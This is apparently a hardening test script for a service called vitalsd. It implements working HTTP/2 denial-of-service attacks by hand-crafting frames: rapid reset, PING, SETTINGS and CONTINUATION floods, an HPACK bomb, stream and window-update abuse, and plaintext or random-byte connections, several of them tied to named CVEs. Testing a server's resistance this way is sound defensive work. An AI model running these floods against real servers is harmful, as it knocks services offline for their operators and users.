#!/usr/bin/env python3
"""Hostile HTTP/2 and transport input against vitalsd: runs one attack, prints one JSON line.

Standard library only: HTTP/2 frames are written by hand (a frame is a 3-byte length, a type,
flags, a 4-byte stream id and the payload) and header blocks use HPACK literals, so every
field of every frame is under our control. Every loop is bounded by --count and --seconds.

    python3 tests/hostile/h2_abuse.py --addr 127.0.0.1:50051 --ca certs/dev/ca.crt \\
        --cert certs/dev/client.crt --key certs/dev/client.key --attack rapid_reset

The line printed: {"attack", "sent": {...}, "received": {...}, "outcome", "duration_ms", ...}
where outcome is "goaway <CODE>" (the server sent GOAWAY), "closed" (it closed the
connection without one), "stalled" (it stopped reading: backpressure), "rst_streams N" (it
reset N streams and kept the connection), or "open" (none of these); "statuses" counts the
:status of the responses. Attacks of several connections or phases list each under
"phases"; their outcome is the one they all had, else each joined with "; ".
"""

import argparse
import json
import os
import random
import select
import socket
import ssl
import struct
import sys
import time
from collections import Counter

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS = 0, 1, 2, 3, 4
PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 5, 6, 7, 8, 9
FRAME_NAMES = [
    "DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING",
    "GOAWAY", "WINDOW_UPDATE", "CONTINUATION",
]
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
ERRORS = [
    "NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
    "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
    "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED",
]
CANCEL = 8
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
MAX_FRAME = 16384
ECHO = "/vitals.echo.v1.Echo/Echo"


def error_name(code):
    return ERRORS[code] if code < len(ERRORS) else f"0x{code:x}"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream & 0x7FFFFFFF
    ) + payload


def hpack_int(value, prefix_bits, first=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_string(s):
    b = s.encode() if isinstance(s, str) else s
    return hpack_int(len(b), 7) + b


def literal(name, value):
    """A literal header field without indexing, new name (RFC 7541 6.2.2)."""
    return b"\x00" + hpack_string(name) + hpack_string(value)


def literal_indexed(name, value):
    """A literal header field with incremental indexing, new name: added to the dynamic table."""
    return b"\x40" + hpack_string(name) + hpack_string(value)


def request_block(path=ECHO):
    return b"".join(
        literal(k, v)
        for k, v in [
            (":method", "POST"),
            (":scheme", "https"),
            (":path", path),
            (":authority", "localhost"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
    )


def split_block(stream, block, end_stream):
    """A header block as HEADERS and CONTINUATION frames of at most MAX_FRAME bytes."""
    chunks = [block[i : i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)] or [b""]
    out = []
    for i, chunk in enumerate(chunks):
        last = i == len(chunks) - 1
        flags = END_HEADERS if last else 0
        if i == 0:
            out.append(frame(HEADERS, flags | (END_STREAM if end_stream else 0), stream, chunk))
        else:
            out.append(frame(CONTINUATION, flags, stream, chunk))
    return b"".join(out)


STATIC_STATUS = {8: "200", 9: "204", 10: "206", 11: "304", 12: "400", 13: "404", 14: "500"}
HUFFMAN_DIGITS = {
    "00000": "0", "00001": "1", "00010": "2", "011001": "3", "011010": "4",
    "011011": "5", "011100": "6", "011101": "7", "011110": "8", "011111": "9",
}


def response_status(block):
    """The :status of a response header block, which a server sends first: an indexed static
    entry, or a literal with the static name `:status` (index 8) and a plain or Huffman-coded
    three-digit value. None for anything else."""
    if not block:
        return None
    b = block[0]
    if b & 0x80:
        return STATIC_STATUS.get(b & 0x7F)
    named = (b & 0xC0 == 0x40 and b & 0x3F == 8) or (b & 0xE0 == 0 and b & 0x0F == 8)
    if not named or len(block) < 2:
        return None
    huffman, n = block[1] & 0x80, block[1] & 0x7F
    value = block[2 : 2 + n]
    if not huffman:
        return value.decode("ascii", "replace")
    bits = "".join(f"{x:08b}" for x in value)
    out, code = "", ""
    for bit in bits:
        code += bit
        if code in HUFFMAN_DIGITS:
            out += HUFFMAN_DIGITS[code]
            code = ""
    return out if len(out) == 3 else None


class Conn:
    """One HTTP/2 connection over TLS: counts what the server sends, ACKs its SETTINGS and
    PINGs like a normal client, and notes when it goes away, closes or stops reading."""

    def __init__(self, args):
        self.args = args
        self.buf = b""
        self.received = Counter()
        self.rst_codes = Counter()
        self.statuses = Counter()
        self.goaway = None
        self.closed = None
        self.stalled = False
        self.write_error = None
        self.bytes_in = 0
        self.pongs = 0
        self.settings_acks = 0
        self.responses = 0
        self.sock = tls_connect(args)
        self.send(PREFACE + frame(SETTINGS, 0, 0))

    def alive(self):
        return self.goaway is None and self.closed is None and not self.stalled

    def send(self, data):
        """Writes everything, or notes why not: a closed connection, or a server that has
        stopped reading for longer than --write-timeout."""
        if self.closed is not None or self.stalled or self.write_error is not None:
            return False
        self.sock.settimeout(self.args.write_timeout)
        try:
            self.sock.sendall(data)
            return True
        except (socket.timeout, TimeoutError):
            self.stalled = True
        except (OSError, ssl.SSLError) as e:
            # What the server said before it closed may still wait in our receive buffer.
            self.write_error = type(e).__name__
            self.pump(0.2)
            if self.closed is None:
                self.closed = self.write_error
        return False

    def pump(self, wait=0.0):
        """Reads and handles whatever the server sends for up to `wait` seconds."""
        end = time.monotonic() + wait
        while self.closed is None:
            left = end - time.monotonic()
            if self.sock.pending() == 0:
                ready, _, _ = select.select([self.sock], [], [], max(left, 0))
                if not ready:
                    return
            self.sock.settimeout(1.0)
            try:
                data = self.sock.recv(65536)
            except (socket.timeout, TimeoutError, ssl.SSLWantReadError):
                continue
            except (OSError, ssl.SSLError) as e:
                self.closed = type(e).__name__
                return
            if not data:
                self.closed = "eof"
                return
            self.bytes_in += len(data)
            self.feed(data)

    def drain(self, quiet=0.5, limit=10.0):
        """Reads until the server has sent nothing for `quiet` seconds (at most `limit`)."""
        end = time.monotonic() + limit
        while self.closed is None and time.monotonic() < end:
            before = self.bytes_in
            self.pump(quiet)
            if self.bytes_in == before:
                return

    def feed(self, data):
        self.buf += data
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                return
            kind, flags = self.buf[3], self.buf[4]
            stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
            payload = self.buf[9 : 9 + length]
            self.buf = self.buf[9 + length :]
            name = FRAME_NAMES[kind] if kind < len(FRAME_NAMES) else f"0x{kind:x}"
            self.received[name] += 1
            if kind == SETTINGS:
                if flags & ACK:
                    self.settings_acks += 1
                else:
                    self.send(frame(SETTINGS, ACK, 0))
            elif kind == PING:
                if flags & ACK:
                    self.pongs += 1
                else:
                    self.send(frame(PING, ACK, 0, payload))
            elif kind == GOAWAY and len(payload) >= 8:
                last, code = struct.unpack(">II", payload[:8])
                self.goaway = {
                    "code": error_name(code),
                    "last_stream_id": last & 0x7FFFFFFF,
                    "debug": payload[8:].decode("utf-8", "replace"),
                }
            elif kind == RST_STREAM and len(payload) >= 4:
                self.rst_codes[error_name(struct.unpack(">I", payload[:4])[0])] += 1
            elif kind == HEADERS:
                self.responses += 1
                padded, priority = flags & 0x8, flags & 0x20
                block = payload[(1 if padded else 0) + (5 if priority else 0) :]
                self.statuses[response_status(block) or "?"] += 1

    def outcome(self):
        if self.goaway is not None:
            return f"goaway {self.goaway['code']}"
        if self.closed is not None:
            return "closed"
        if self.stalled:
            return "stalled"
        n = sum(self.rst_codes.values())
        if n:
            return f"rst_streams {n}"
        return "open"

    def report(self):
        return {
            "outcome": self.outcome(),
            "received": dict(self.received),
            "rst_codes": dict(self.rst_codes),
            "statuses": dict(self.statuses),
            "goaway": self.goaway,
            "closed": self.closed,
            "stalled": self.stalled,
            "bytes_received": self.bytes_in,
        }

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def tls_connect(args):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.load_verify_locations(args.ca)
    ctx.load_cert_chain(args.cert, args.key)
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection(args.host_port, timeout=5)
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock = ctx.wrap_socket(raw, server_hostname="localhost")
    if sock.selected_alpn_protocol() != "h2":
        raise SystemExit(f"ALPN gave {sock.selected_alpn_protocol()!r}, not h2")
    return sock


class Budget:
    def __init__(self, seconds):
        self.end = time.monotonic() + seconds

    def left(self):
        return self.end - time.monotonic() > 0


# --- attacks over mutual TLS -------------------------------------------------------------


def rapid_reset(args, budget):
    """HEADERS then RST_STREAM(CANCEL) at once, for --count streams (CVE-2023-44487), --batch
    pairs a write, on up to --connections connections: a new one each time the server sends
    GOAWAY. With --pace-ms, each batch's HEADERS go first and its RSTs --pace-ms later."""
    sent = Counter()
    phases = []
    while sent["headers"] < args.count and budget.left() and len(phases) < args.connections:
        conn = Conn(args)
        sent["connections"] += 1
        conn.pump(0.05)
        stream = 1
        while conn.alive() and sent["headers"] < args.count and budget.left():
            n = min(args.batch, args.count - sent["headers"])
            ids = [stream + 2 * i for i in range(n)]
            stream += 2 * n
            headers = [frame(HEADERS, END_HEADERS, i, request_block()) for i in ids]
            resets = [frame(RST_STREAM, 0, i, struct.pack(">I", CANCEL)) for i in ids]
            if args.pace_ms > 0:
                # Paced: the server accepts the streams (and starts their handlers) before
                # the resets arrive, so h2's pending-accept reset limit does not apply.
                conn.send(b"".join(headers))
                conn.pump(args.pace_ms / 1000)
                conn.send(b"".join(resets))
            else:
                conn.send(b"".join(h + r for h, r in zip(headers, resets)))
            sent["headers"] += n
            sent["rst_stream"] += n
            conn.pump(0)
        conn.pump(0.3)
        phases.append(conn.report())
        conn.close()
    return sent, phases


def ping_flood(args, budget):
    """--count PINGs without reading the PONGs until the end (CVE-2019-9512): the server must
    not queue unbounded replies."""
    conn = Conn(args)
    conn.pump(0.05)
    sent = Counter()
    while conn.alive() and sent["ping"] < args.count and budget.left():
        n = min(1000, args.count - sent["ping"])
        batch = b"".join(
            frame(PING, 0, 0, struct.pack(">Q", sent["ping"] + i)) for i in range(n)
        )
        if conn.send(batch):
            sent["ping"] += n
    conn.drain()
    report = conn.report()
    report["pongs"] = conn.pongs
    conn.close()
    return sent, [report]


def settings_flood(args, budget):
    """--count SETTINGS frames, each changing INITIAL_WINDOW_SIZE 100 times, without reading
    the ACKs until the end (CVE-2019-9515)."""
    conn = Conn(args)
    conn.pump(0.05)
    # Streams for the window changes to apply to.
    conn.send(b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, request_block()) for i in range(16)))
    sent = Counter(headers=16)
    while conn.alive() and sent["settings"] < args.count and budget.left():
        n = min(200, args.count - sent["settings"])
        batch = []
        for i in range(n):
            entries = b"".join(
                struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 65535 - ((i + j) % 1000))
                for j in range(100)
            )
            batch.append(frame(SETTINGS, 0, 0, entries))
        if conn.send(b"".join(batch)):
            sent["settings"] += n
    conn.drain()
    report = conn.report()
    report["settings_acks"] = conn.settings_acks
    conn.close()
    return sent, [report]


def continuation_flood(args, budget):
    """HEADERS without END_HEADERS, then up to --count CONTINUATION frames that never end the
    block (CVE-2024-27316 and kin), each a valid 4 KiB literal header."""
    conn = Conn(args)
    conn.pump(0.05)
    conn.send(frame(HEADERS, 0, 1, request_block()))
    sent = Counter(headers=1)
    while conn.alive() and sent["continuation"] < args.count and budget.left():
        n = min(16, args.count - sent["continuation"])
        batch = b"".join(
            frame(CONTINUATION, 0, 1, literal(f"x-flood-{sent['continuation'] + i}", "a" * 4000))
            for i in range(n)
        )
        if conn.send(batch):
            sent["continuation"] += n
        conn.pump(0)
    conn.pump(1.0)
    report = conn.report()
    conn.close()
    return sent, [report]


def huge_headers(args, budget):
    """One request whose header list is --count KiB (limit 16 KiB), in HEADERS and
    CONTINUATION frames of 16 KiB, then a normal request on the same connection."""
    conn = Conn(args)
    conn.pump(0.05)
    fields = [request_block()]
    size = 0
    i = 0
    while size < args.count * 1024:
        fields.append(literal(f"x-huge-{i}", "h" * 1000))
        size += len(f"x-huge-{i}") + 1000 + 32
        i += 1
    block = b"".join(fields)
    conn.send(split_block(1, block, end_stream=True))
    sent = Counter(headers=1, header_list_bytes=size, frames=-(-len(block) // MAX_FRAME))
    conn.pump(1.0)
    report = conn.report()
    conn.close()
    return sent, [report]


def hpack_bomb(args, budget):
    """A 4 KiB header added to the HPACK dynamic table once, then referenced --count times by
    its one-byte index: a few KiB on the wire that decode to --count x 4 KiB (CVE-2016-6581)."""
    conn = Conn(args)
    conn.pump(0.05)
    n = args.count
    block = request_block() + literal_indexed("x-bomb", "b" * 4000) + bytes([0x80 | 62]) * n
    conn.send(split_block(1, block, end_stream=True))
    sent = Counter(headers=1, wire_bytes=len(block), decoded_bytes=(n + 1) * (6 + 4000 + 32))
    conn.pump(1.0)
    report = conn.report()
    conn.close()
    return sent, [report]


def too_many_streams(args, budget):
    """--count streams opened (HEADERS, no END_STREAM) and never finished, above
    max_concurrent_streams; held for --hold seconds."""
    conn = Conn(args)
    conn.pump(0.05)
    sent = Counter()
    stream = 1
    while conn.alive() and sent["headers"] < args.count and budget.left():
        n = min(100, args.count - sent["headers"])
        batch = []
        for _ in range(n):
            batch.append(frame(HEADERS, END_HEADERS, stream, request_block()))
            stream += 2
        if conn.send(b"".join(batch)):
            sent["headers"] += n
        conn.pump(0)
    conn.pump(args.hold)
    report = conn.report()
    conn.close()
    return sent, [report]


def announced_bodies(args, budget):
    """--count streams, each announcing a 4 MiB message (the limit) in its length prefix but
    sending only 1 KiB of it, held for --hold seconds: what the server reserves for bodies
    that never come."""
    conn = Conn(args)
    conn.pump(0.05)
    sent = Counter()
    stream = 1
    body = b"\x00" + struct.pack(">I", 4 << 20) + b"a" * 1024
    while conn.alive() and sent["headers"] < args.count and budget.left():
        n = min(32, args.count - sent["headers"])
        batch = []
        for _ in range(n):
            batch.append(frame(HEADERS, END_HEADERS, stream, request_block()))
            batch.append(frame(DATA, 0, stream, body))
            stream += 2
        if conn.send(b"".join(batch)):
            sent["headers"] += n
            sent["data_bytes"] += n * len(body)
        conn.pump(0)
    conn.pump(args.hold)
    report = conn.report()
    conn.close()
    return sent, [report]


def window_update_abuse(args, budget):
    """Four phases, each on its own connection. Stream overflow: --count streams opened, each
    sent two WINDOW_UPDATEs of 2^31-1 (its send window overflows). Stream zero: a stream sent
    a zero increment. Connection overflow: two increments of 2^31-1 on stream 0. Connection
    zero: a zero increment on stream 0."""
    sent = Counter()
    phases = []
    conn = Conn(args)
    conn.pump(0.05)
    stream = 1
    big = struct.pack(">I", 0x7FFFFFFF)
    while conn.alive() and sent["stream_overflow"] < args.count and budget.left():
        n = min(50, args.count - sent["stream_overflow"])
        batch = []
        for _ in range(n):
            batch.append(frame(HEADERS, END_HEADERS, stream, request_block()))
            batch += [frame(WINDOW_UPDATE, 0, stream, big)] * 2
            stream += 2
        if conn.send(b"".join(batch)):
            sent["stream_overflow"] += n
        conn.pump(0)
    conn.pump(0.5)
    phases.append(conn.report())
    conn.close()

    for name, stream, payloads in [
        ("stream_zero", 1, [struct.pack(">I", 0)]),
        ("connection_overflow", 0, [big, big]),
        ("connection_zero", 0, [struct.pack(">I", 0)]),
    ]:
        conn = Conn(args)
        conn.pump(0.05)
        if stream:
            conn.send(frame(HEADERS, END_HEADERS, stream, request_block()))
        for p in payloads:
            conn.send(frame(WINDOW_UPDATE, 0, stream, p))
        sent[name] += len(payloads)
        conn.pump(0.5)
        phases.append(conn.report())
        conn.close()
    return sent, phases


# --- attacks without TLS -----------------------------------------------------------------


def plain(args, budget, payloads):
    """Opens one TCP connection per payload, sends it without TLS, and waits (at most until
    --seconds run out) for the server to close. All connections are open at once."""
    first = b""
    closes = Counter()
    close_ms = []
    pending = {}
    for p in payloads:
        s = socket.create_connection(args.host_port, timeout=5)
        s.sendall(p)
        pending[s.fileno()] = (s, time.monotonic())
        first = reap(pending, closes, close_ms, 0) or first
    while pending and budget.left():
        first = reap(pending, closes, close_ms, 0.05) or first
    for s, _ in pending.values():
        s.close()
    report = {
        "outcome": "closed" if not pending else f"open {len(pending)}",
        "closes": dict(closes),
        "still_open": len(pending),
        "max_close_ms": max(close_ms, default=None),
        "first_bytes_hex": first.hex(),
    }
    return report


def reap(pending, closes, close_ms, wait):
    """Notes the connections the server has closed (within `wait` seconds), with how long
    after their bytes were sent; returns the first bytes the server sent, if any."""
    first = b""
    if not pending:
        return first
    ready, _, _ = select.select([s for s, _ in pending.values()], [], [], wait)
    for s in ready:
        sock, started = pending[s.fileno()]
        try:
            data = sock.recv(65536)
        except ConnectionResetError:
            data, how = None, "reset"
        else:
            how = "eof"
        if data:
            first = first or data[:16]
            continue
        closes[how] += 1
        close_ms.append(round((time.monotonic() - started) * 1000, 1))
        del pending[sock.fileno()]
        sock.close()
    return first


def plaintext_h2(args, budget):
    """The HTTP/2 preface, SETTINGS and a request without TLS, on --count connections."""
    request = frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block())
    payload = PREFACE + frame(SETTINGS, 0, 0) + request
    return Counter(connections=args.count), [plain(args, budget, [payload] * args.count)]


def plaintext_h1(args, budget):
    """An HTTP/1.1 request without TLS, on --count connections."""
    payload = b"GET / HTTP/1.1\r\nHost: localhost\r\nUser-Agent: h2_abuse\r\n\r\n"
    return Counter(connections=args.count), [plain(args, budget, [payload] * args.count)]


def random_bytes(args, budget):
    """--count connections of 1 to 4096 random bytes (seeded by --seed); every second one
    wrapped in a TLS handshake record header so it passes the record layer."""
    rng = random.Random(args.seed)
    payloads = []
    for i in range(args.count):
        body = bytes(rng.getrandbits(8) for _ in range(rng.randint(1, 4096)))
        if i % 2 == 1:
            body = b"\x16\x03\x01" + struct.pack(">H", len(body)) + body
        payloads.append(body)
    sent = Counter(connections=args.count, bytes=sum(map(len, payloads)))
    return sent, [plain(args, budget, payloads)]


ATTACKS = {
    f.__name__: f
    for f in [
        rapid_reset, ping_flood, settings_flood, continuation_flood, huge_headers, hpack_bomb,
        too_many_streams, announced_bodies, window_update_abuse, plaintext_h2, plaintext_h1,
        random_bytes,
    ]
}
DEFAULT_COUNT = {
    "rapid_reset": 10000, "ping_flood": 100000, "settings_flood": 10000,
    "continuation_flood": 10000, "huge_headers": 1024, "hpack_bomb": 4000,
    "too_many_streams": 1000, "announced_bodies": 128, "window_update_abuse": 2000,
    "plaintext_h2": 8, "plaintext_h1": 8, "random_bytes": 64,
}


def summary(outcomes):
    """One outcome when every phase (or connection) had the same, else all of them."""
    if len(set(outcomes)) == 1:
        return outcomes[0]
    return "; ".join(outcomes)


def main():
    p = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    p.add_argument("--addr", required=True, help="host:port of the mutual-TLS listener")
    p.add_argument("--ca", help="CA of the server certificate")
    p.add_argument("--cert", help="client certificate")
    p.add_argument("--key", help="client key")
    p.add_argument("--attack", required=True, choices=sorted(ATTACKS))
    p.add_argument("--count", type=int, help="how many (frames, streams, KiB or connections)")
    p.add_argument("--seconds", type=float, default=10.0, help="time budget of the attack")
    p.add_argument("--connections", type=int, default=20, help="rapid_reset: most connections")
    p.add_argument("--batch", type=int, default=100, help="rapid_reset: pairs per write")
    p.add_argument("--pace-ms", type=float, default=0, help="rapid_reset: HEADERS, wait, RSTs")
    p.add_argument("--hold", type=float, default=1.0, help="too_many_streams: seconds held")
    p.add_argument("--seed", type=int, default=8, help="random_bytes: RNG seed")
    p.add_argument("--write-timeout", type=float, default=3.0,
                   help="a write blocked this long means the server stopped reading")
    args = p.parse_args()
    host, _, port = args.addr.rpartition(":")
    args.host_port = (host.strip("[]"), int(port))
    if args.count is None:
        args.count = DEFAULT_COUNT[args.attack]
    needs_tls = args.attack not in ("plaintext_h2", "plaintext_h1", "random_bytes")
    if needs_tls and not (args.ca and args.cert and args.key):
        p.error(f"{args.attack} needs --ca, --cert and --key")

    started = time.monotonic()
    sent, phases = ATTACKS[args.attack](args, Budget(args.seconds))
    line = {
        "attack": args.attack,
        "sent": dict(sent),
        "outcome": summary([ph["outcome"] for ph in phases]),
        "duration_ms": round((time.monotonic() - started) * 1000),
    }
    if len(phases) == 1:
        line.update({k: v for k, v in phases[0].items() if k != "outcome"})
    else:
        line["phases"] = phases
    print(json.dumps(line), flush=True)


if __name__ == "__main__":
    sys.exit(main())
